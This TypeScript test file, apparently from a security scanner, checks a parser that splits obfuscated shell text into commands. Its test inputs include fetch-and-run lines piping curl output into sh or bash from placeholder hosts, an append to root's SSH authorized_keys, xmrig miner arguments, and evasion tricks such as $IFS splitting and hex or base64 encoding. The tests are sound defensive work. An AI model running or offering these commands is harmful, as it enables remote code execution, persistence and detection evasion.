import assert from 'node:assert/strict';
import { test } from 'node:test';
import { processorTime } from '../../test/fixtures/processor-time.ts';
import { splitShell } from './shell.ts';

const words = (text: string): (readonly string[])[] => splitShell(text).map((command) => command.words);

test('quotes are removed and keep their blanks', () => {
  assert.deepEqual(words(`a 'b c' "d e" f\\ g ""`), [['a', 'b c', 'd e', 'f g', '']]);
});

test('operators separate commands and say how they are joined', () => {
  const commands = splitShell('a | b && c || d; e & f\ng');
  assert.deepEqual(
    commands.map((command) => command.joined + command.words[0]),
    ['a', '|b', '&&c', '||d', ';e', '&f', ';g'],
  );
});

test('a pipe at the end of a line goes on in the next', () => {
  const commands = splitShell('curl x |\n  # a comment\n  sh');
  assert.deepEqual([commands[1]?.joined, commands[1]?.words], ['|', ['sh']]);
});

test('a pipeline behind a group keeps its joint', () => {
  assert.equal(splitShell('(a; b) | c')[2]?.joined, '|');
});

test('a backslash before the line break joins lines, also with carriage return', () => {
  assert.deepEqual(words('xmrig -o \\\n pool \\\r\n -u w'), [['xmrig', '-o', 'pool', '-u', 'w']]);
});

test('variables with a known value are replaced, unquoted ones split', () => {
  assert.deepEqual(words('OPTS="-o pool -u w"\n./x $OPTS "$OPTS" $' + '{NONE:-d} $GONE'), [
    [],
    ['./x', '-o', 'pool', '-u', 'w', '-o pool -u w', 'd', '$GONE'],
  ]);
});

test('an assignment before a command belongs to it alone', () => {
  const [first, second] = splitShell('A=1 run; echo $A');
  assert.equal(first?.assignments.A, '1');
  assert.deepEqual(second?.words, ['echo', '$A']);
});

test('export makes a value known', () => {
  assert.deepEqual(words('export P=pool.example:3333; x -o $P')[1], ['x', '-o', 'pool.example:3333']);
});

test('empty substitutions between letters are nothing', () => {
  assert.deepEqual(words('c$()url -s x``y; a $() b'), [
    ['curl', '-s', 'xy'],
    ['a', 'b'],
  ]);
});

test('commands of substitutions follow the list that they occur in', () => {
  const commands = splitShell('sh -c "$(curl -s http://a/b | base64 -d)" | cat `id $(pwd)`');
  assert.deepEqual(
    commands.map((command) => [command.depth, command.words[0]]),
    [
      [0, 'sh'],
      [0, 'cat'],
      [1, 'curl'],
      [1, 'base64'],
      [1, 'id'],
      [2, 'pwd'],
    ],
  );
  assert.equal(commands[3]?.joined, '|');
});

test('process substitution is a nested command', () => {
  assert.deepEqual(words('bash <(curl http://a/b)'), [
    ['bash', '<(curl http://a/b)'],
    ['curl', 'http://a/b'],
  ]);
});

test('here-documents belong to their command and are not commands', () => {
  const commands = splitShell("cat > /x <<'END' | sh\nline; one\nEND\nnext <<< word");
  assert.deepEqual(
    commands.map((command) => [command.words[0], command.input]),
    [
      ['cat', 'line; one\n'],
      ['sh', undefined],
      ['next', 'word'],
    ],
  );
  assert.deepEqual(commands[0]?.redirects, [{ operator: '>', target: '/x' }]);
});

test('redirections are kept apart from arguments', () => {
  const [command] = splitShell('echo key >> /root/.ssh/authorized_keys 2>/dev/null &>log');
  assert.deepEqual(command?.words, ['echo', 'key']);
  assert.deepEqual(command?.redirects, [
    { operator: '>>', target: '/root/.ssh/authorized_keys' },
    { operator: '>', target: '/dev/null' },
    { operator: '&>', target: 'log' },
  ]);
});

test('keywords and functions leave the commands behind them', () => {
  assert.deepEqual(words('if true; then a; else b; fi\nf() { c; }\nwhile :; do d; done'), [
    ['true'],
    ['a'],
    ['b'],
    ['c'],
    [':'],
    ['d'],
  ]);
});

test('C escapes in dollar quotes are decoded', () => {
  assert.deepEqual(words("$'\\x63url' $'\\150i' $'a\\tb'"), [['curl', 'hi', 'a\tb']]);
});

test('offsets point at the first word', () => {
  const text = '  # c\n  A=1 b; c';
  assert.deepEqual(
    splitShell(text).map((command) => text.slice(command.offset, command.offset + 3)),
    ['A=1', 'c'],
  );
});

test('the separator as a variable separates', () => {
  const [command] = splitShell('curl${IFS}-s$IFS$9http://h/x');
  assert.deepEqual(command?.words, ['curl', '-s', 'http://h/x']);
});

test('braces make several words, quoted ones and a lone pair do not', () => {
  assert.deepEqual(words('{curl,-s,http://h/x} a{b,c}d'), [['curl', '-s', 'http://h/x', 'abd', 'acd']]);
  assert.deepEqual(words(`"{a,b}" {a} x={a,b} find -exec rm {} \\;`), [
    ['{a,b}', '{a}', 'x={a,b}', 'find', '-exec', 'rm', '{}', ';'],
  ]);
});

test('arrays are known, as a whole and by index', () => {
  assert.deepEqual(words('a=(curl -s "b c")\n"${a[@]}" ${a[2]} ${b[@]}'), [
    [],
    ['curl', '-s', 'b c', 'b', 'c', '${b[@]}'],
  ]);
});

test('operations on known variables are followed, on unknown ones left as written', () => {
  const set = 'a=xcurlx; b=cu.rl; ';
  assert.deepEqual(words(`${set}\${a:1:4} \${b/./} \${a#x} \${a%x} \${a^^} \${a: -5:4} \${b//./}`)[2], [
    'curl',
    'curl',
    'curlx',
    'xcurl',
    'XCURLX',
    'curl',
    'curl',
  ]);
  assert.deepEqual(words(`${set}\${a/[a-z]/} \${c:1:4} \${a@U}`)[2], ['${a/[a-z]/}', '${c:1:4}', '${a@U}']);
});

test('arguments that are not there, between letters, split no word', () => {
  assert.deepEqual(words('cu$@rl wge${*}t "$@" $@ a$1b'), [['curl', 'wget', '$@', '$@', 'a$1b']]);
});

test('what a substitution prints is known where its text tells it', () => {
  const [command] = splitShell('$(echo cu)rl "$(echo aHR0cDovL2gveA== | base64 -d)" `which sh`');
  assert.deepEqual(command?.words, ['curl', 'http://h/x', 'sh']);
  assert.deepEqual(command?.decoded, ['http://h/x']);
  assert.deepEqual(words('a=$(printf "%s-%s" b c); x $a'), [[], ['x', 'b-c'], ['printf', '%s-%s', 'b', 'c']]);
  for (const text of ['$(cat x)', '$(echo $X)', '$(echo a; b)', '$(base64 -d f)', '$(echo a > f)'])
    assert.equal(splitShell(`x "${text}"`)[0]?.words[1], text);
});

test('commands of a function say so', () => {
  const commands = splitShell('a() { b; { c; }; }\nfunction d { e; }\nf');
  assert.deepEqual(
    commands.map(({ words, within }) => [words[0], within]),
    [
      ['b', 'a'],
      ['c', 'a'],
      ['e', 'd'],
      ['f', undefined],
    ],
  );
});

test('a name like __proto__ is only a name', () => {
  const [command] = splitShell('__proto__=x run');
  assert.deepEqual(Object.entries(command?.assignments ?? {}), [['__proto__', 'x']]);
});

test('hostile text ends quickly: open quotes, deep nesting, growing variables, missing delimiters', () => {
  const used = processorTime();
  const hostile = [
    "'".repeat(99_999),
    '"'.repeat(99_999),
    '$('.repeat(100_000),
    '`'.repeat(100_000),
    '('.repeat(100_000),
    '${'.repeat(100_000),
    '$(('.repeat(100_000),
    '<<a '.repeat(50_000) + '\n'.repeat(50_000),
    'a;'.repeat(200_000),
    'a=xxxxxxxxxx\n' + 'a=$a$a\n'.repeat(1000) + 'b $a $a $a',
    '\\'.repeat(100_001),
    'a=b '.repeat(100_000),
    'a=('.repeat(60_000),
    '{a,'.repeat(80_000),
    '$(echo aaaaaaaaaaaaaaaa | base64 -d)'.repeat(6000),
  ];
  for (const text of hostile) {
    const commands = splitShell(text);
    let size = 0;
    for (const command of commands) for (const word of command.words) size += word.length;
    assert.ok(size < 8 << 20);
  }
  assert.ok(used() < 5000);
});
